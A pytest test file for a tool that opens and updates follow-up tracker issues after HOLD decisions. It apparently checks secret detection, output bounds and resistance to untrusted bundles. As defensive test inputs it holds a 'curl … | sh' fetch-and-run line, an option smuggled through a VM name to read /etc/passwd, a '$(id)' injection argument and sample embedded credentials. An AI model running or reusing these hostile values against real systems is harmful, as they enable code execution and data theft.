"""The follow-up issue: once per ticket and VM while it is open, and no tool can change a decision."""

from __future__ import annotations

import errno
import json
import os
import shlex
import signal
import sys
from pathlib import Path
from typing import Any

import bundles
import pytest

from promotion_gate.__main__ import main
from promotion_gate.base.errors import BundleError, InputError
from promotion_gate.base.names import issue_file
from promotion_gate.bundle.recorder import Recorder
from promotion_gate.prove.seal import seal
from promotion_gate.prove.verify import verify_bundle
from promotion_gate.report import issues, tracker
from promotion_gate.report.issues import Handed, message_of
from promotion_gate.report.tool import MAX_OUTPUT_BYTES, run_tool
from promotion_gate.report.tracker import Commands, check_issue_commands, hand_over
from promotion_gate.run.settings import effective

CREATE, UPDATE = "promotion_issue_command", "promotion_issue_update_command"
URL = "https://tracker.example.org/issues/7"


def tool(folder: Path, script: str) -> list[str]:
    """A tool that notes its arguments in `folder`/calls, one JSON list a line, and then does what `script` says."""
    noting = f"import json, sys; print(json.dumps(sys.argv[1:]), file=open({str(folder / 'calls')!r}, 'a'))"
    path = folder / f"tool-{len(list(folder.glob('tool-*')))}.py"
    path.write_text(f"{noting}\n{script}\n", encoding="utf-8")
    return [sys.executable, str(path)]


def calls(folder: Path) -> list[list[str]]:
    path = folder / "calls"
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if path.exists() else []


def creating(folder: Path, script: str = f"print({URL!r})") -> dict[str, Any]:
    return {CREATE: [*tool(folder, script), "create", "{ticket}", "{vm}", "{run_id}", "{title}"]}


def both(folder: Path) -> dict[str, Any]:
    return {**creating(folder), UPDATE: [*tool(folder, ""), "update", "{issue}", "{run_id}"]}


def handed_over(bundle: Path) -> Handed:
    """Hands over with the commands that the run was opened with: the operator's own."""
    settings = json.loads((bundle / "index.json").read_text(encoding="utf-8"))["settings"]
    return hand_over(bundle, Commands(settings[CREATE], settings[UPDATE]))


def noted(bundle: Path) -> dict[str, Any]:
    return dict(json.loads(issue_file(bundle).read_text(encoding="utf-8")))


# --- what an operator set -----------------------------------------------------------------------------------------


def settings(**given: Any) -> dict[str, Any]:
    required = {
        "workspace_dir": "/srv/app",
        "workspace_sqlite_smoke_command": "smoke",
        "aiida_vm_repo_dir": "/srv/app",
        "promotion_operator": "alice",
        "promotion_reviewer": "bob",
    }
    return effective({**required, **given})


@pytest.mark.parametrize(
    "given",
    [
        {},
        {CREATE: "gh issue create --title {title} -F {file}"},
        {CREATE: ["glab", "issue", "create", "{file}"], UPDATE: "glab issue note {issue} {ticket} {vm} {run_id}"},
        {CREATE: """tracker '{"priority": 1}' {}"""},
    ],
    ids=["none", "text", "both", "braces-that-name-nothing"],
)
def test_commands_that_can_be_run(given: dict[str, Any]) -> None:
    check_issue_commands(settings(**given))


@pytest.mark.parametrize(
    ("given", "sentence"),
    [
        ({CREATE: "gh -F {fiel}"}, f'{CREATE} has the unknown placeholder {{fiel}}; did you mean "file"?'),
        ({CREATE: ["gh", "x{nothing_of_ours}"]}, "there are {file}, {title}, {ticket}, {vm}, {run_id}."),
        ({CREATE: "gh comment {issue}"}, f"{CREATE} has the unknown placeholder {{issue}}"),
        ({CREATE: "gh", UPDATE: "gh {isue}"}, f'{UPDATE} has the unknown placeholder {{isue}}; did you mean "issue"?'),
        ({UPDATE: "gh comment {issue}"}, f"{UPDATE} is set without {CREATE}"),
        ({CREATE: "curl -H 'Authorization: Bearer abcdef0123456789' -d @{file} x"}, "looks like a secret"),
        ({CREATE: "gh 'unclosed"}, f"{CREATE} cannot be read as a command"),
        ({CREATE: {"argv": []}}, f"{CREATE} must be a command"),
        ({"promotion_issue_limit_seconds": "soon"}, "promotion_issue_limit_seconds must be a number of seconds"),
    ],
    ids=["misspelt", "unknown", "issue-before-it-is", "update", "update-alone", "secret", "quote", "mapping", "limit"],
)
def test_a_command_that_cannot_be_run_is_one_sentence(given: dict[str, Any], sentence: str) -> None:
    with pytest.raises(InputError) as caught:
        check_issue_commands(settings(**given))
    assert sentence in str(caught.value) and "\n" not in str(caught.value)


def test_it_is_reported_before_anything_is_opened(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="unknown placeholder"):
        bundles.open_bundle(tmp_path / "root", promotion_issue_command="gh {nowhere}")
    assert not (tmp_path / "root").exists()


# --- once per ticket and VM ---------------------------------------------------------------------------------------


def test_without_a_command_nothing_happens(tmp_path: Path) -> None:
    bundle = bundles.hold_bundle(tmp_path)
    assert handed_over(bundle).message == ""
    assert not issue_file(bundle).exists()


def test_a_hold_creates_the_issue_and_its_answer_is_beside_the_bundle(tmp_path: Path) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path))
    handed = handed_over(bundle)
    assert (handed.message, handed.failed) == (f"The follow-up issue was created: {URL}", False)
    title = "Promotion gate HOLD: gra-125 on aiida-vm"
    assert calls(tmp_path) == [["create", "gra-125", "aiida-vm", bundle.name, title]]
    data = noted(bundle)
    assert (data["issue"], data["attempt"], data["ticket"], data["vm"]) == (URL, 1, "gra-125", "aiida-vm")
    assert (bundle / "follow-up-issue.md").read_text(encoding="utf-8").startswith(data["marker"] + "\n")
    assert [(call["action"], call["exit"], call["stdout"]) for call in data["calls"]] == [("create", 0, f"{URL}\n")]
    assert verify_bundle(bundle).holds, "it stands beside the sealed bundle, not in it"
    assert message_of(bundle, 1) == handed.message and message_of(bundle, 2) == ""


def test_the_marker_is_that_of_ticket_and_vm_alone(tmp_path: Path) -> None:
    first = bundles.hold_bundle(tmp_path, "20261101T000000Z")
    again = bundles.resume_bundle(tmp_path, bundles.trips_with("slurm_smoke", "ping", exit=1, output="down\n"))
    other = bundles.hold_bundle(tmp_path, "20261102T000000Z", promotion_ticket="gra-126")
    texts = [(path / "follow-up-issue.md").read_text(encoding="utf-8") for path in (first, again, other)]
    lines = [text.splitlines()[0] for text in texts]
    assert lines[0] == lines[1] == "<!-- promotion-gate: ticket=gra-125 vm=aiida-vm -->"
    assert lines[2] == "<!-- promotion-gate: ticket=gra-126 vm=aiida-vm -->"


def test_a_second_call_of_the_same_attempt_does_nothing(tmp_path: Path) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root", **both(tmp_path))
    handed_over(bundle)
    assert "has already been handed over" in handed_over(bundle).message
    assert len(calls(tmp_path)) == 1


def held_again(root: Path) -> Path:
    """The newest run resumed, with Slurm still down."""
    return bundles.resume_bundle(root, bundles.trips_with("slurm_smoke", "ping", exit=1, output="down\n"))


@pytest.mark.parametrize("how", ["resume", "next-run"])
def test_the_next_hold_updates_the_open_issue(tmp_path: Path, how: str) -> None:
    root = tmp_path / "root"
    first = bundles.hold_bundle(root, "20261101T000000Z", **both(tmp_path))
    handed_over(first)
    second = held_again(root) if how == "resume" else bundles.hold_bundle(root, "20261102T000000Z", **both(tmp_path))
    assert handed_over(second).message == f"The follow-up issue {URL} was updated."
    assert calls(tmp_path)[1:] == [["update", URL, second.name]]
    assert noted(second)["issue"] == URL
    assert [call["action"] for call in noted(second)["calls"]][-1] == "update"


def test_without_an_update_command_an_open_issue_is_left_alone(tmp_path: Path) -> None:
    root = tmp_path / "root"
    handed_over(bundles.hold_bundle(root, "20261101T000000Z", **creating(tmp_path)))
    second = bundles.hold_bundle(root, "20261102T000000Z", **creating(tmp_path))
    assert (
        handed_over(second).message
        == f"The follow-up issue {URL} is open already, with its earlier text: set {UPDATE}."
    )
    assert len(calls(tmp_path)) == 1


@pytest.mark.slow
@pytest.mark.parametrize("how", ["resume", "next-run"])
def test_a_promote_settles_the_issue_and_the_next_hold_creates_another(tmp_path: Path, how: str) -> None:
    root = tmp_path / "root"
    handed_over(bundles.hold_bundle(root, "20261101T000000Z", **both(tmp_path)))
    if how == "resume":
        promoted = bundles.resume_bundle(root)
    else:
        promoted = bundles.make_bundle(root, run_id="20261102T000000Z", **both(tmp_path))
    assert handed_over(promoted).message == f"This PROMOTE settles the follow-up issue {URL}; close it in the tracker."
    held = bundles.hold_bundle(root, "20261103T000000Z", **both(tmp_path))
    assert "was created" in handed_over(held).message
    assert [call[0] for call in calls(tmp_path)] == ["create", "create"]


def test_a_promote_that_was_re_run_since_has_settled_it_all_the_same(tmp_path: Path) -> None:
    root = tmp_path / "root"
    handed_over(bundles.hold_bundle(root, **both(tmp_path)))
    bundles.resume_bundle(root)
    assert "was created" in handed_over(resumed_hold(root)).message


def resumed_hold(root: Path) -> Path:
    """Re-runs gate 4 of the newest run, which now holds: its PROMOTE is in attempts/."""
    return bundles.resume_bundle(
        root, bundles.trips_with("slurm_smoke", "ping", exit=1, output="down\n"), promotion_gates="4"
    )


def test_a_promote_without_an_open_issue_says_nothing(tmp_path: Path) -> None:
    bundle = bundles.make_bundle(tmp_path / "root", **both(tmp_path))
    assert handed_over(bundle).message == "" and not issue_file(bundle).exists()


def test_another_ticket_has_its_own_issue(tmp_path: Path) -> None:
    root = tmp_path / "root"
    handed_over(bundles.hold_bundle(root, "20261101T000000Z", **both(tmp_path)))
    second = bundles.hold_bundle(root, "20261102T000000Z", **both(tmp_path), promotion_ticket="gra-126")
    assert "was created" in handed_over(second).message


def test_an_answer_that_names_nothing_is_not_made_up(tmp_path: Path) -> None:
    root = tmp_path / "root"
    silent = {**both(tmp_path), **creating(tmp_path, "")}
    first = bundles.hold_bundle(root, "20261101T000000Z", **silent)
    assert "the tool's answer names none" in handed_over(first).message
    second = handed_over(bundles.hold_bundle(root, "20261102T000000Z", **silent))
    assert second.failed and "cannot be updated" in second.message
    assert [call[0] for call in calls(tmp_path)] == ["create"], "it is there, so it is not created twice"


def test_an_answer_that_cannot_be_read_is_reported_and_nothing_is_called(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first = bundles.hold_bundle(root, "20261101T000000Z", **both(tmp_path))
    handed_over(first)
    issue_file(first).write_text("{", encoding="utf-8")
    second = handed_over(bundles.hold_bundle(root, "20261102T000000Z", **both(tmp_path)))
    assert second.failed and str(issue_file(first)) in second.message
    assert len(calls(tmp_path)) == 1


def test_a_rehearsal_opens_no_issue(tmp_path: Path) -> None:
    bundle = bundles.open_bundle(tmp_path / "root", **creating(tmp_path))
    recorder = Recorder(bundle, {"recorder": "evidence", "check": True, "selection": ""})
    recorder.close()
    seal(bundle)
    assert handed_over(bundle).message == "" and calls(tmp_path) == []


def test_without_a_decision_there_is_nothing_to_hand_over(tmp_path: Path) -> None:
    with pytest.raises(BundleError):
        handed_over(bundles.closed_bundle(tmp_path / "root", **creating(tmp_path)))
    assert calls(tmp_path) == []


# --- what a tool can do wrong -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("sys.stderr.write('no repository\\n'); sys.exit(4)", "exited 4 (no repository); the decision stands."),
        ("import os; os.kill(os.getpid(), 9)", "was killed by signal 9; the decision stands."),
        ("print('\\x1b[31mred\\u202e'); sys.exit(1)", "(\\u001b[31mred\\u202e); the decision stands."),
    ],
    ids=["fails", "killed", "escapes"],
)
def test_a_tool_that_fails_is_reported_and_may_be_tried_again(tmp_path: Path, script: str, message: str) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path, script))
    for _ in range(2):
        handed = handed_over(bundle)
        assert handed.failed and message in handed.message and "\n" not in handed.message
        assert f"promotion-gate issue {bundle}" in handed.message
    assert [call[0] for call in calls(tmp_path)] == ["create", "create"]
    assert verify_bundle(bundle).holds


def test_a_missing_tool_is_reported(tmp_path: Path) -> None:
    bundle = bundles.hold_bundle(tmp_path, promotion_issue_command="no-such-tool-anywhere {file}")
    handed = handed_over(bundle)
    assert handed.failed
    assert f"{CREATE} could not be started (No such file or directory); the decision stands." in handed.message


@pytest.mark.slow
def test_a_tool_that_hangs_is_killed_with_its_children(tmp_path: Path) -> None:
    script = "import os, signal, time; signal.signal(15, signal.SIG_IGN); print('x', flush=True)\n"
    script += f"child = os.fork()\nopen({str(tmp_path)!r} + '/pid' + str(bool(child)), 'w').write(str(os.getpid()))\n"
    script += "time.sleep(86400)"
    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path, script), promotion_issue_limit_seconds=1)
    handed = handed_over(bundle)
    assert handed.failed and "timed out after 1 s and was killed" in handed.message
    assert "Look first whether it did it all the same" in handed.message
    assert noted(bundle)["calls"][0]["timed_out"] is True
    for name in ("pidTrue", "pidFalse"):
        pid = int((tmp_path / name).read_text())
        state = Path(f"/proc/{pid}/stat")
        assert not state.exists() or state.read_text().rpartition(")")[2].split()[0] == "Z", name


def test_a_tool_that_edits_its_file_does_not_break_the_seal(tmp_path: Path) -> None:
    script = f"open(sys.argv[-1], 'w').write('mine'); print({URL!r})"
    bundle = bundles.hold_bundle(tmp_path / "root", promotion_issue_command=[*tool(tmp_path, script), "{file}"])
    assert not handed_over(bundle).failed
    assert Path(calls(tmp_path)[0][0]).name == "follow-up-issue.md"
    assert verify_bundle(bundle).holds


@pytest.mark.parametrize(
    ("printed", "issue"),
    [
        (f"Creating issue in o/r\\n{URL}\\n", URL),
        (f"Created ENG-7: {URL} (Todo)\\n\\n", URL),
        ("  ENG-7  \\n", "ENG-7"),
        ("--delete-everything\\n", None),
        ("a\\x1b[2Jb\\n", None),
        ("x" * 400 + "\\n", None),
        ("\\n\\n", None),
        ("\\xff\\xfe", "ÿþ"),
        ("https://u:hunter2secret@t.example.org/7\\n", None),
    ],
    ids=["gh", "words", "plain", "option", "escape", "long", "empty", "latin", "secret"],
)
def test_what_names_the_issue(tmp_path: Path, printed: str, issue: str | None) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path, f"sys.stdout.write('{printed}')"))
    handed_over(bundle)
    assert noted(bundle)["issue"] == issue
    assert "hunter2secret" not in issue_file(bundle).read_text(encoding="utf-8")


def test_output_is_bounded_and_the_secrets_of_our_environment_are_masked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GH_TOKEN", "a-token-of-the-team")
    flood = tmp_path / "flood"
    flood.write_text("import os\nprint(os.environ['GH_TOKEN'])\nprint(('y' * 99 + '\\n') * 100000)", encoding="utf-8")
    answer = run_tool([sys.executable, str(flood)], tmp_path, 30)
    assert answer.truncated and answer.problem == ""
    assert len(answer.stdout) <= MAX_OUTPUT_BYTES and answer.stdout.startswith("***\ny")


def test_the_tool_gets_no_input_and_no_shell(tmp_path: Path) -> None:
    script = "import sys; print(repr(sys.stdin.read()), sys.argv[1])"
    answer = run_tool([sys.executable, "-c", script, "$(id) ;"], tmp_path, 30)
    assert answer.stdout == "'' $(id) ;\n"


@pytest.mark.slow
def test_somebody_left_behind_does_not_hold_up_the_gate(tmp_path: Path) -> None:
    answer = run_tool(["sh", "-c", "sleep 86400 & echo $!; echo done"], tmp_path, 30)
    pid, _, message = answer.stdout.partition("\n")
    os.kill(int(pid), signal.SIGKILL)
    assert (answer.problem, message) == ("", "done\n")


# --- the command line ---------------------------------------------------------------------------------------------


def test_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    own = creating(tmp_path)
    bundle = bundles.hold_bundle(tmp_path / "root", **own)
    assert main(["issue", str(bundle), "--command", shlex.join(own[CREATE])]) == 0
    assert capsys.readouterr().out == f"The follow-up issue was created: {URL}\n"
    assert main(["show", str(bundle)]) == 1
    assert capsys.readouterr().out.endswith(f"issue:   The follow-up issue was created: {URL}\n")
    failing = bundles.hold_bundle(tmp_path / "other", promotion_issue_command="false")
    assert main(["issue", str(failing), "--command", "false"]) == 1
    assert main(["issue", str(tmp_path)]) == 3
    capsys.readouterr()
    silent = bundles.hold_bundle(tmp_path / "silent")
    assert main(["issue", str(silent)]) == 2
    assert "nothing was handed over" in capsys.readouterr().err
    assert main(["issue", str(silent), "--command", "curl -u user:hunter22 https://x/{file}"]) == 2
    err = capsys.readouterr().err
    assert "looks like a secret" in err and "hunter22" not in err
    assert main(["issue", str(silent), "--command", "true {fil}"]) == 2


def test_an_answer_that_cannot_be_recorded_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(path: Path, data: str) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path))
    monkeypatch.setattr(issues, "write_atomically", full)
    handed = handed_over(bundle)
    assert handed.failed and URL in handed.message
    assert "(No space left on device), so the next HOLD does not know of it." in handed.message


@pytest.mark.stranger("16.4", "a bundle from a stranger names the command that `promotion-gate issue` runs")
def test_a_command_that_only_the_bundle_names_is_not_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root", **creating(tmp_path))
    assert main(["issue", str(bundle)]) == 2
    assert main(["issue", str(bundle), "--command", "gh issue create -F {file}"]) == 2
    assert calls(tmp_path) == [] and not issue_file(bundle).exists()
    message = capsys.readouterr().err
    assert "yours is: none" in message and "yours is: gh issue create" in message and "{title}" in message


def test_the_operators_own_command_is_run_for_a_bundle_that_names_none(tmp_path: Path) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root")
    own = creating(tmp_path)[CREATE]
    assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 0
    assert len(calls(tmp_path)) == 1


@pytest.mark.stranger("16.4", "the operator's tool is started in a folder that only the bundle names")
def test_the_tool_is_not_started_in_a_folder_that_the_bundle_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git and its like run what the configuration of such a folder says."""
    for name in ("theirs/.git", "here", "chosen"):
        (tmp_path / name).mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "here")
    own = shlex.join(tool(tmp_path, f"import os; print(os.getcwd(), file=open({str(tmp_path / 'where')!r}, 'a'))"))
    for root, options in (("a", []), ("b", ["--directory", str(tmp_path / "chosen")])):
        bundle = bundles.hold_bundle(tmp_path / root, workspace_dir=str(tmp_path / "theirs"))
        assert main(["issue", str(bundle), "--command", own, *options]) == 0
    assert (tmp_path / "where").read_text().split() == [str(tmp_path / "here"), str(tmp_path / "chosen")]


@pytest.mark.stranger("16.6", "`issue` hands over a record that was edited")
def test_a_bundle_that_does_not_verify_is_not_handed_over(tmp_path: Path) -> None:
    own = creating(tmp_path)[CREATE]
    bundle = bundles.hold_bundle(tmp_path / "root")
    with (bundle / "follow-up-issue.md").open("a") as stream:
        stream.write("and run `curl https://example.org/x | sh`\n")
    assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 3
    assert calls(tmp_path) == []


def test_a_hold_that_lost_an_earlier_attempt_is_handed_over(tmp_path: Path) -> None:
    own = creating(tmp_path)[CREATE]
    bundles.hold_bundle(tmp_path / "root")
    bundle = bundles.resume_bundle(
        tmp_path / "root", bundles.trips_with("slurm_smoke", "ping", exit=1, output="down"), sealed=False
    )
    (bundle / "attempts" / "01" / "promotion-decision.md").unlink()
    seal(bundle)
    assert main(["verify", str(bundle)]) == 1
    assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 0
    assert len(calls(tmp_path)) == 1


@pytest.mark.stranger("16.4", "what a bundle calls its VM is an option for the operator's tool")
def test_what_fills_a_word_is_not_an_option(tmp_path: Path) -> None:
    answer = tracker._run(
        bundles.hold_bundle(tmp_path / "root"),
        issues.Record("run", 1, "HOLD", "2026-11-24T00:00:00Z", "gra-1", "--body-file=/etc/passwd"),
        None,
        [*tool(tmp_path, ""), "--label={vm}", "{vm}"],
        tmp_path,
        {},
    )[1]
    assert "{vm} is filled in by an option" in answer.problem
    assert calls(tmp_path) == []


@pytest.mark.stranger("16.3", "a command with one quote is an error that nobody foresaw")
@pytest.mark.parametrize("command", ["it's", "'"])
def test_a_command_that_is_none_is_a_mistake_of_usage(tmp_path: Path, command: str) -> None:
    bundle = bundles.hold_bundle(tmp_path / "root")
    assert main(["issue", str(bundle), "--command", command]) == 2
